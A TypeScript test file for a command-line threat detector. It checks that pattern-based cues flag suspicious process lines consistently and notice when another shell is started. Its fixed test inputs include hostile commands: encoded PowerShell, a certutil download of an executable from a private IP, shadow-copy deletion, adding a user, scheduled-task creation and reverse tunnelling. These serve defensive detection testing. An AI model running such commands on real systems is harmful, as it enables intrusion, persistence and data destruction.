import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CUES, cuesOf } from '../src/command-line.js';

/** The cues of a line by all patterns, tried one by one. */
const allCuesOf = (line: string): string[] => CUES.filter(([, pattern]) => pattern.test(line)).map(([cue]) => cue);
const withoutShells = (line: string): string[] => cuesOf(line).filter((cue) => cue !== 'starts_shell');

/** Texts that a pattern matches, but for what it says of its surroundings. */
function textsOf(pattern: RegExp): fc.Arbitrary<string> {
  const source = pattern.source.replace(/\(\?(<?[=!])(\[[^\]]*\]|\\.|[^)\\])*\)/g, '').replaceAll('\\b', '');
  return fc.stringMatching(new RegExp(`^(?:${source})$`));
}

describe('cues', () => {
  it.each(CUES)('%s: whatever its pattern finds is found, in any case and surroundings', (_cue, pattern) => {
    const around = fc.constantFrom(
      '',
      ' ',
      '"',
      '\\',
      '.',
      '7',
      'a',
      '\u00a0',
      'C:\\Windows\\System32\\x.exe ',
      ' -k ',
    );
    let matched = 0;
    fc.assert(
      fc.property(textsOf(pattern), around, around, fc.boolean(), (text, before, after, isUpper) => {
        const line = `x ${before}${isUpper ? text.toUpperCase() : text}${after}`;
        const cues = allCuesOf(line);
        if (cues.length > 0) matched++;
        expect(withoutShells(line)).toEqual(cues);
      }),
      { numRuns: 400 },
    );
    expect(matched).toBeGreaterThan(50);
  });

  it.each([
    'powershell -e SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
    'powershell –enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
    `x ${'A'.repeat(200)}`,
    'certutil -urlcache -f http://10.0.0.5/a.exe a.exe',
    'cmd /c s^e^t x=1',
    "powershell ('i'+'ex')",
    'plink -R 3389:127.0.0.1:3389 host',
    'ssh -L8080:db:80 host',
    'x socks5 10.0.0.1:1080',
    'rar a -hpsecret out.rar',
    'wmic shadowcopy delete',
    'schtasks.exe /create /tn x',
    'net1 user eve secret /add',
    'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
    '"C:\\Program Files\\Maker\\a.exe" --type=renderer --id=12 --lang=de',
  ])('are the same with and without the look at pieces: %s', (line) => {
    expect(withoutShells(line)).toEqual(allCuesOf(line));
  });

  it.each(['x.exe cmd /c dir', 'psexec \\\\host powershell.exe', 'a "C:\\Windows\\System32\\cmd.exe" /c x', 'b pwsh'])(
    'tell that another shell is started: %s',
    (line) => {
      expect(cuesOf(line)).toContain('starts_shell');
    },
  );
});
